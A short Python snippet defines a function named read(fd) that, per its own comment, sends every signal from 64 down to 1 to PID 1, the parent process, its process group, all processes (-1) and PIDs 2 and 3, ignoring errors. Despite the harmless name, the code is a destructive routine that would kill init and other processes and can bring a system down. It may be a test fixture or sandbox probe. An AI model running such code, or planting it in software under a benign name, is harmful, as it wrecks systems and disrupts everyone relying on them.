# tries: to end process 1, its parent, its group and all others with every signal
def read(fd):
    for number in range(64, 0, -1):
        for pid in (1, os.getppid(), -1, 0, 2, 3):
            try:
                os.kill(pid, number)
            except OSError:
                continue
